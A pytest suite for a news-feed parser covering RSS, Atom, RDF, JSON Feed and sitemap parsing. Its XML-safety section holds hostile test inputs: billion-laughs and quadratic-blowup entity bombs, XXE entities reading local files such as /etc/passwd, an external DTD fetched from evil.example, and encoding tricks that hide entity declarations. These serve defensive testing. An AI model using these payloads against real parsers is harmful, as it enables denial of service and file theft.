"""parse_feed: formats, normalisation, failure messages and XML-bomb safety."""

from __future__ import annotations

import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tidings.errors import FeedParseError
from tidings.ingest import parser as parser_module
from tidings.ingest.entries import MAX_ENTRIES, MAX_TITLE_CHARS, parse_date_text, plausible_date
from tidings.ingest.parser import FeedEntry, ParsedFeed, looks_like_feed, parse_feed
from tidings.ingest.sitemap import SitemapIndexError
from tidings.ingest.xmlsafety import ensure_safe_xml

FEEDS = Path(__file__).resolve().parents[1] / "fixtures" / "feeds"


def fixture(name: str) -> bytes:
    return (FEEDS / name).read_bytes()


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=UTC)


# ---------------------------------------------------------------- RSS 2.0


@pytest.fixture(scope="module")
def rss() -> ParsedFeed:
    return parse_feed(
        fixture("rss2.xml"), url="https://news.example.com/rss", content_type="application/rss+xml"
    )


def test_rss_feed_metadata(rss: ParsedFeed) -> None:
    assert rss.kind == "rss"
    assert rss.title == "Example & Co. News"
    assert rss.link == "https://news.example.com/"
    assert rss.language == "en-US"
    assert rss.ttl_minutes == 30
    assert rss.bozo_warning is None


def test_rss_entry_fields(rss: ParsedFeed) -> None:
    first = rss.entries[0]
    assert isinstance(first, FeedEntry)
    assert first.link == "https://news.example.com/2024/05/markets-rally"  # relative link resolved
    assert first.guid == "story-1"
    assert first.title == "Markets rally as rates fall"  # tags stripped
    assert first.author == "Jane Reporter"
    assert first.published == utc(2024, 5, 15, 0, 30)  # +0900 converted to UTC
    assert first.summary == "Stocks rose sharply."  # script content removed, no markup
    assert first.content_html is not None and "<strong>story</strong>" in first.content_html
    assert first.categories == ["Business", "Markets"]  # case-insensitive dedupe
    assert first.image == "https://cdn.example.com/markets.jpg"
    assert first.language == "en-US"


def test_rss_content_html_is_not_sanitised() -> None:
    feed = parse_feed(
        b'<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>t</title>'
        b"<item><link>https://a.example/1</link><content:encoded><![CDATA[<p onclick='x()'>hi</p>"
        b"<script>evil()</script>]]></content:encoded></item></channel></rss>",
        url="https://a.example/rss",
    )
    assert feed.entries[0].content_html is not None
    assert "<script>" in feed.entries[0].content_html  # the extractor sanitises, not the parser


def test_rss_guid_permalink_becomes_link_and_enclosure_image(rss: ParsedFeed) -> None:
    second = rss.entries[1]
    assert second.link == "https://news.example.com/2024/05/guid-only"
    assert second.summary == "Plain text summary & more"
    assert second.image == "https://news.example.com/img/enclosure.png"


def test_rss_entries_without_link_are_dropped(rss: ParsedFeed) -> None:
    assert [entry.title for entry in rss.entries] == [
        "Markets rally as rates fall",
        "Only a permalink guid",
        "From the far future",
    ]


def test_absurd_dates_become_none(rss: ParsedFeed) -> None:
    assert rss.entries[1].published is None  # 1970
    assert rss.entries[2].published is None  # 2201
    assert rss.entries[2].image == "https://news.example.com/thumbs/future.jpg"


# ---------------------------------------------------------------- Atom / RDF


def test_atom_with_xml_base_and_languages() -> None:
    feed = parse_feed(fixture("atom10.xml"), url="https://blog.example.jp/atom.xml")
    assert feed.kind == "atom"
    assert feed.title == "Example Blog"
    assert feed.link == "https://blog.example.jp/"
    assert feed.language == "ja"
    first, second = feed.entries
    assert first.link == "https://blog.example.jp/posts/tokyo-exhibit"
    assert first.title == "東京で新しい展示"
    assert first.author == "山田 太郎"
    assert first.published == utc(2024, 5, 14, 1, 0)
    assert first.updated == utc(2024, 5, 14, 3, 0)
    assert first.summary == "短い要約"
    assert first.content_html == '<p>本文 <a href="https://blog.example.jp/more">more</a></p>'
    assert first.categories == ["culture"]
    assert second.link == "https://other.example.org/x"
    assert second.language == "en"
    assert second.published is None  # Atom `updated` is not a publication date
    assert second.updated == utc(2024, 5, 13, 8, 0)
    assert second.summary == "Escaped HTML content"  # derived from html content, as text


def test_rdf_feed_with_dc_date_and_syndication_hint() -> None:
    feed = parse_feed(fixture("rdf.xml"), url="https://www.example.co.jp/rss/index.rdf")
    assert feed.kind == "rdf"
    assert feed.language == "ja"
    assert feed.ttl_minutes == 15  # hourly / 4
    (entry,) = feed.entries
    assert entry.title == "記事その一"
    assert entry.published == utc(2024, 5, 14, 0, 0)  # dc:date is the publication date in RSS 1.0
    assert entry.categories == ["政治"]


def test_html_entities_without_dtd_still_parse() -> None:
    feed = parse_feed(fixture("html_entities.xml"), url="https://cafe.example.fr/rss")
    assert feed.title == "Café news"
    (entry,) = feed.entries
    assert entry.title == "Le menu du jour — crème brûlée"
    assert entry.summary == "Prix : 5€"
    assert feed.bozo_warning is not None and "undefined entity" in feed.bozo_warning


def test_feed_with_no_items_is_a_valid_empty_feed() -> None:
    feed = parse_feed(
        b'<rss version="2.0"><channel><title>Quiet</title></channel></rss>', url="https://q.example/"
    )
    assert feed.entries == []
    assert feed.title == "Quiet"


def test_recovered_entries_come_with_bozo_warning() -> None:
    broken = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
        b"<item><title>Kept</title><link>https://b.example/1</link></item><item><title>Cut"
    )
    feed = parse_feed(broken, url="https://b.example/rss")
    assert [entry.link for entry in feed.entries] == ["https://b.example/1"]
    assert feed.bozo_warning and feed.bozo_warning.startswith("XML syntax error at line")


def test_non_utf8_declared_encoding() -> None:
    body = '<?xml version="1.0" encoding="euc-kr"?><rss version="2.0"><channel><title>한국 뉴스</title>'
    body += "<item><title>속보</title><link>https://k.example/1</link></item></channel></rss>"
    feed = parse_feed(body.encode("euc-kr"), url="https://k.example/rss")
    assert feed.title == "한국 뉴스"
    assert feed.entries[0].title == "속보"


def test_entry_cap_and_text_limits() -> None:
    long_title = "x" * (MAX_TITLE_CHARS * 3)
    items = "".join(
        f"<item><title>{long_title}</title><link>https://c.example/{i}</link></item>"
        for i in range(MAX_ENTRIES + 50)
    )
    feed = parse_feed(
        f'<rss version="2.0"><channel>{items}</channel></rss>'.encode(), url="https://c.example/"
    )
    assert len(feed.entries) == MAX_ENTRIES
    assert feed.entries[0].title is not None and len(feed.entries[0].title) == MAX_TITLE_CHARS


def test_content_type_is_only_a_hint() -> None:
    feed = parse_feed(fixture("rss2.xml"), url="https://news.example.com/rss", content_type="text/html")
    assert feed.kind == "rss" and len(feed.entries) == 3


# ---------------------------------------------------------------- JSON Feed


def test_json_feed() -> None:
    feed = parse_feed(
        fixture("feed.json"), url="https://json.example.com/feed.json", content_type="text/plain"
    )
    assert feed.kind == "json"
    assert feed.title == "JSON Example"
    assert feed.link == "https://json.example.com/"
    assert feed.language == "en-GB"
    first, second = feed.entries  # no-url item and non-object item dropped
    assert first.link == "https://json.example.com/posts/1"
    assert first.title == "First & best"
    assert first.author == "Item Author"
    assert first.published == utc(2024, 5, 14, 8, 0)
    assert first.updated == utc(2024, 5, 15, 10, 0)
    assert first.summary == "Hello world"
    assert first.content_html == "<p>Hello <b>world</b></p>"
    assert first.categories == ["news", "tech"]  # the number tag is ignored
    assert first.image == "https://json.example.com/img/1.png"
    assert second.link == "https://elsewhere.example.org/story"
    assert second.guid == "2"
    assert second.title is None  # wrong type ignored, not coerced
    assert second.published is None
    assert second.author == "Feed Author"
    assert second.image == "https://json.example.com/a.jpg"


def test_json_feed_1_0_minimal() -> None:
    document = {
        "version": "https://jsonfeed.org/version/1",
        "title": "Old",
        "author": {"name": "Legacy"},
        "items": [{"id": "https://j.example/p/1", "content_text": "text"}],
    }
    feed = parse_feed(json.dumps(document).encode(), url="https://j.example/feed.json")
    (entry,) = feed.entries
    assert entry.link == "https://j.example/p/1"  # a URL-shaped id stands in for a missing url
    assert entry.author == "Legacy"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"rss": {"version": "2.0"}}', "not a JSON Feed"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": [', "JSON syntax error at line 1"),
        (b"[" * 100_000 + b"]" * 100_000, "JSON"),
        (b"[1, 2, 3]", "not a JSON Feed"),
    ],
)
def test_bad_json(content: bytes, message: str) -> None:
    with pytest.raises(FeedParseError, match=message):
        parse_feed(content, url="https://j.example/feed.json")


# ---------------------------------------------------------------- sitemaps


def test_google_news_sitemap() -> None:
    feed = parse_feed(fixture("news_sitemap.xml"), url="https://www.example.kr/sitemap-news.xml")
    assert feed.kind == "sitemap"
    assert feed.language == "ko"
    first, second = feed.entries
    assert first.link == "https://www.example.kr/news/2024/05/14/article-1.html"
    assert first.title == "정부, 새 경제 정책 발표"
    assert first.published == utc(2024, 5, 13, 22, 30)
    assert first.updated == utc(2024, 5, 13, 23, 0)
    assert first.image == "https://img.example.kr/1.jpg"
    assert first.categories == ["경제", "정책"]
    assert first.language == "ko"
    assert second.link == "https://www.example.kr/news/2024/05/14/article-2.html"
    assert second.published == utc(2024, 5, 14)


def test_plain_sitemap_yields_links_with_lastmod() -> None:
    content = (
        b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<url><loc>https://s.example/a</loc><lastmod>2024-01-02</lastmod></url>"
        b"<url><loc>ftp://s.example/b</loc></url></urlset>"
    )
    feed = parse_feed(content, url="https://s.example/sitemap.xml")
    (entry,) = feed.entries
    assert (entry.link, entry.title, entry.updated) == ("https://s.example/a", None, utc(2024, 1, 2))


def test_sitemap_index_is_a_catchable_error_with_child_urls() -> None:
    with pytest.raises(SitemapIndexError) as caught:
        parse_feed(fixture("sitemap_index.xml"), url="https://www.example.com/sitemap.xml")
    assert isinstance(caught.value, FeedParseError)
    assert caught.value.code == "sitemap_index"
    assert caught.value.sitemaps == [
        "https://www.example.com/sitemap-news.xml",
        "https://www.example.com/sitemap-2024-05.xml",
    ]


# ---------------------------------------------------------------- not feeds


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty document"),
        (b"   \n\t ", "empty document"),
        (b"<!DOCTYPE html><html><head><title>Hi</title></head><body>x</body></html>", "got an HTML page"),
        (b"<html><body><p>hello</body></html>", "got an HTML page"),
        (b'<?xml version="1.0"?>\n<rss version="2.0">\n<channel><title>x</ti', "XML syntax error at line 3"),
        (b'<?xml version="1.0"?><catalog><book/></catalog>', "root element <catalog>"),
        (b"Just some plain text, not markup at all.", "no XML root element"),
        (b'<opml version="2.0"><body/></opml>', "OPML"),
        (b"\x00\x01\x02\x03binary", "not a feed"),
    ],
)
def test_not_a_feed_messages(content: bytes, message: str) -> None:
    with pytest.raises(FeedParseError, match=message):
        parse_feed(content, url="https://x.example/")


def test_unexpected_internal_errors_are_wrapped(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(parser_module.feedparser, "parse", explode)
    with pytest.raises(FeedParseError, match="RuntimeError: boom"):
        parse_feed(fixture("rss2.xml"), url="https://x.example/")


# ---------------------------------------------------------------- XML safety

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://evil.example/1</link></item></channel></rss>
"""


def _xxe_document(secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
        '<rss version="2.0"><channel><title>&xxe;</title>'
        "<item><title>&xxe;</title><link>https://evil.example/1</link></item></channel></rss>"
    ).encode()


@pytest.fixture
def feedparser_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Proves the safety pre-check runs before feedparser ever sees the bytes."""

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser was handed a hostile document")

    monkeypatch.setattr(parser_module.feedparser, "parse", forbidden)


def test_billion_laughs_is_refused_fast_and_small(feedparser_must_not_run: None) -> None:
    tracemalloc.start()
    with pytest.raises(FeedParseError, match="declares entities") as caught:
        parse_feed(BILLION_LAUGHS, url="https://evil.example/rss")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert caught.value.code == "unsafe_xml"
    assert peak < 1_000_000  # nothing was expanded (expansion would need gigabytes)


def test_billion_laughs_in_utf16_is_refused(feedparser_must_not_run: None) -> None:
    with pytest.raises(FeedParseError, match="declares entities"):
        parse_feed(
            BILLION_LAUGHS.decode().replace('"1.0"?>', '"1.0" encoding="utf-16"?>').encode("utf-16"), url="x"
        )


def test_quadratic_blowup_is_refused(feedparser_must_not_run: None) -> None:
    big = "A" * 50_000
    document = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{big}">]><rss version="2.0"><channel>'
        f"<title>{'&a;' * 50_000}</title></channel></rss>"
    ).encode()
    with pytest.raises(FeedParseError, match="unsafe XML"):
        parse_feed(document, url="https://evil.example/rss")  # feedparser_must_not_run: never expanded


def test_xxe_never_reads_the_file(tmp_path: Path, feedparser_must_not_run: None) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    with pytest.raises(FeedParseError) as caught:
        parse_feed(_xxe_document(secret), url="https://evil.example/rss")
    assert "TOP-SECRET-VALUE" not in str(caught.value)
    assert caught.value.code == "unsafe_xml"


def test_xxe_via_parameter_entity_and_external_dtd(feedparser_must_not_run: None) -> None:
    parameter = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>'
    )
    external = b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd"><rss version="2.0"/>'
    for document in (parameter, external):
        with pytest.raises(FeedParseError, match="unsafe XML"):
            parse_feed(document, url="https://evil.example/rss")


def test_xxe_in_sitemap_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    document = (
        f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://e.example/&xxe;</loc></url>'
        "</urlset>"
    ).encode()
    with pytest.raises(FeedParseError, match="unsafe XML"):
        parse_feed(document, url="https://e.example/sitemap.xml")


@pytest.mark.parametrize(
    "document",
    [
        # a "]" and ">" inside a subset comment must not end the DOCTYPE early and hide what follows
        b'<!DOCTYPE r [ <!-- ] --> <!ENTITY a "aaaa"> ]><rss version="2.0"><channel><title>&a;</title>'
        b"</channel></rss>",
        # quotes inside the subset
        b"<!DOCTYPE r [ <!ATTLIST x y CDATA \"]>\"> <!ENTITY a 'b'> ]><rss/>",
        # UTF-7 spells "<!ENTITY" without a single "<"
        b'<?xml version="1.0" encoding="UTF-7"?><!DOCTYPE r [+ADw-!ENTITY a "b"+AD4-]><rss/>',
        # the subset never closes
        b'<?xml version="1.0"?><!DOCTYPE r [ <!ELEMENT r ANY> ' + b" " * 1000,
    ],
)
def test_entity_declarations_cannot_hide(document: bytes, feedparser_must_not_run: None) -> None:
    with pytest.raises(FeedParseError, match="unsafe XML"):
        parse_feed(document, url="https://evil.example/rss")


def test_entity_declaration_visible_only_in_http_charset_is_refused(feedparser_must_not_run: None) -> None:
    document = '<!DOCTYPE r [<!ENTITY a "b">]><rss version="2.0"/>'.encode("utf-16-be")[
        2:
    ]  # no BOM, odd start
    with pytest.raises(FeedParseError, match="unsafe XML"):
        parse_feed(document, url="https://evil.example/rss", content_type="application/xml; charset=UTF-16BE")


def test_a_huge_preamble_is_refused_without_reading_on(feedparser_must_not_run: None) -> None:
    document = b"<!--" + b"x" * 400_000 + b'--><!DOCTYPE r [<!ENTITY a "b">]><rss/>'
    with pytest.raises(FeedParseError, match="no root element within the first"):
        parse_feed(document, url="https://evil.example/rss")


def test_mislabelled_charset_does_not_trip_the_safety_check() -> None:
    prolog = ensure_safe_xml(fixture("rss2.xml"), charset="utf-16")
    assert prolog.root_local_name == "rss"
    feed = parse_feed(
        fixture("rss2.xml"), url="https://news.example.com/rss", content_type="text/xml; charset=utf-8"
    )
    assert feed.kind == "rss"


def test_plain_public_doctype_is_allowed() -> None:
    rss091 = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        b'<rss version="0.91"><channel><title>Old</title>'
        b"<item><title>One</title><link>https://old.example/1</link></item></channel></rss>"
    )
    feed = parse_feed(rss091, url="https://old.example/rss")
    assert feed.kind == "rss" and feed.entries[0].title == "One"


# ---------------------------------------------------------------- looks_like_feed / dates


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("rss2.xml", True),
        ("atom10.xml", True),
        ("rdf.xml", True),
        ("feed.json", True),
        ("news_sitemap.xml", True),
        ("sitemap_index.xml", False),
        ("page.html", False),
        ("subscriptions.opml", False),
    ],
)
def test_looks_like_feed(name: str, expected: bool) -> None:
    assert looks_like_feed(fixture(name), None) is expected


def test_looks_like_feed_uses_content_not_content_type() -> None:
    assert looks_like_feed(fixture("page.html"), "application/rss+xml") is False
    assert looks_like_feed(fixture("rss2.xml"), "text/html") is True
    assert looks_like_feed(b'{"items": []}', "application/feed+json") is True
    assert looks_like_feed(b'{"items": []}', "application/json") is False
    assert looks_like_feed(b"", None) is False


def test_date_parsing_and_plausibility() -> None:
    assert parse_date_text("2024-05-14T10:00:00+09:00") == utc(2024, 5, 14, 1, 0)
    assert parse_date_text("Tue, 14 May 2024 10:00:00 GMT") == utc(2024, 5, 14, 10, 0)
    assert parse_date_text("2024-05-14") == utc(2024, 5, 14)
    assert parse_date_text("garbage") is None
    assert parse_date_text(12345) is None
    now = datetime.now(UTC)
    assert plausible_date(now + timedelta(days=1)) is not None
    assert plausible_date(now + timedelta(days=3)) is None
    assert plausible_date(datetime(1989, 12, 31, tzinfo=UTC)) is None
    naive = plausible_date(datetime(2020, 1, 1))
    assert naive is not None and naive.tzinfo is UTC
